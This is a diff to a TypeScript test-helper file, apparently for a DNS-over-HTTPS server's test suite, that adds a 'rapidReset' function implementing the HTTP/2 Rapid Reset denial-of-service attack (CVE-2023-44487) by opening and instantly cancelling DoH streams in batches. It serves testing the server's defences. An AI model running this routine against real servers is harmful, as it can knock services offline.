@@ -3,7 +3,7 @@
 import type { TestContext } from 'node:test'
 import { execFile } from 'node:child_process'
 import { once } from 'node:events'
-import { connect as http2Connect, type ClientHttp2Session } from 'node:http2'
+import { connect as http2Connect, constants as h2c, type ClientHttp2Session } from 'node:http2'
 import { connect as tlsConnect, type ConnectionOptions, type TLSSocket } from 'node:tls'
 import dnsPacket from 'dns-packet'
 import { CATEGORY } from '../../engine/categories/index.js'
@@ -170,4 +170,29 @@ export async function needsTool(t: TestContext, cmd: string, pkg: string): Promi
   if (process.env.CI !== undefined && process.env.CI !== '') throw new Error(`${cmd} is missing (Debian: ${pkg})`)
   t.skip(`${cmd} is not installed (Debian: ${pkg})`)
   return false
+}
+
+/**
+ * HTTP/2 rapid reset (CVE-2023-44487): opens up to `max` DoH POST streams of `msg` on `session` and resets
+ * each as soon as it has its ID (one closed before that is never sent), yielding to the event loop every
+ * `batch` streams so the resets reach the server in batches; stops when the server closes the session.
+ * Returns the streams opened.
+ */
+export async function rapidReset(
+  session: ClientHttp2Session,
+  msg: Buffer,
+  max: number,
+  batch: number
+): Promise<number> {
+  let sent = 0
+  for (; sent < max && !session.closed && !session.destroyed; sent++) {
+    const req = session.request({ ':method': 'POST', ':path': '/dns-query', 'content-type': 'application/dns-message' })
+    req.on('error', () => {})
+    req.end(msg)
+    const cancel = (): void => req.close(h2c.NGHTTP2_CANCEL)
+    if (req.pending) req.once('ready', cancel)
+    else cancel()
+    if (sent % batch === batch - 1) await new Promise((r) => setImmediate(r))
+  }
+  return sent
 }
